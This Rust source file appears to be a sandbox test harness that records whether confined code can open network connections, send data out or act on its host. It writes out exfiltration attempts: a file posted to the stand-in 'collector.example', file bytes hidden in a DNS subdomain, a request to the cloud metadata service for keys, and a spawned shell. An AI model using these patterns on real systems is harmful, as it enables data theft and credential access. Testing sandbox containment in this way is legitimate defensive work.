//! The network and the machine, by every way the standard library has.

use std::io::{self, Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::process::Command;
use std::{env, fs, thread};

use waki::Client;

use crate::Attempts;

/// Neighbours, metadata services, and the world.
const ADDRESSES: [&str; 6] = [
    "127.0.0.1:80",
    "[::1]:22",
    "169.254.169.254:80",
    "10.0.0.1:443",
    "192.0.2.1:80",
    "[::ffff:127.0.0.1]:5432",
];

/// Connects, listens, sends, resolves.
pub fn network(attempts: &mut Attempts<'_>) {
    for address in ADDRESSES {
        attempts.attempt(format!("connect to {address}"), || {
            TcpStream::connect(address).map(|_| "connected")
        });
    }
    attempts.attempt("fetch a page over http", || fetch("example.com:80"));
    attempts.attempt("resolve a name", || {
        "example.com:443".to_socket_addrs().map(|found| format!("{} addresses", found.count()))
    });
    attempts.attempt("listen on a port", || TcpListener::bind("0.0.0.0:0").map(|_| "listening"));
    attempts.attempt("send a datagram", || {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.send_to(b"hostile", "192.0.2.1:53").map(|sent| format!("{sent} bytes sent"))
    });
}

fn fetch(host: &str) -> io::Result<String> {
    let mut stream = TcpStream::connect(host)?;
    stream.write_all(b"GET / HTTP/1.0\r\nhost: example.com\r\n\r\n")?;
    let mut page = Vec::new();
    stream.read_to_end(&mut page).map(|size| format!("{size} bytes"))
}

/// Carries what it may read to where it may not send.
pub fn exfiltration(attempts: &mut Attempts<'_>) {
    let loot = fs::read_to_string("/docs/plain.txt").unwrap_or_default();
    let send = |url: &str, body: &str| {
        let sent = Client::new().post(url).body(body.as_bytes()).send();
        let answer = sent.map_err(|why| why.to_string())?;
        match answer.header("envelope-denied") {
            Some(code) => Err(String::from_utf8_lossy(code.as_bytes()).into_owned()),
            None => Ok(answer.status_code()),
        }
    };
    attempts.attempt("send a document away", || send("https://collector.example/", &loot));
    attempts.attempt("hide a document in a name", || {
        let hidden: String = loot.bytes().take(24).map(|byte| format!("{byte:02x}")).collect();
        send(&format!("https://x{hidden}.collector.example/"), "")
    });
    attempts.attempt("ask the cloud for its keys", || {
        send("http://169.254.169.254/latest/meta-data/", "")
    });
    attempts.attempt("ask a model behind the budget's back", || {
        let question = r#"{"model":"gpt-4o","messages":[{"role":"user","content":"Hello"}]}"#;
        send("http://model.envelope/v1/chat/completions", question)
    });
}

/// Looks around, and starts things.
pub fn machine(attempts: &mut Attempts<'_>) {
    let none = |found: Vec<String>| {
        if found.is_empty() { Err("there is nothing".to_string()) } else { Ok(found.join(" ")) }
    };
    attempts.attempt("look at the environment", || {
        none(env::vars_os().map(|(name, _)| name.to_string_lossy().into_owned()).collect())
    });
    attempts.attempt("look at the arguments", || {
        none(env::args_os().map(|argument| argument.to_string_lossy().into_owned()).collect())
    });
    attempts.attempt("find the own program", || env::current_exe().map(|_| "found"));
    attempts.attempt("start a program", || Command::new("sh").status());
    attempts.attempt("start a thread", || thread::Builder::new().spawn(|| ()).map(|_| "started"));
    attempts.attempt("read what was typed", || {
        let mut text = Vec::new();
        match io::stdin().read_to_end(&mut text)? {
            0 => Err(io::Error::other("there is nothing")),
            size => Ok(format!("{size} bytes")),
        }
    });
}
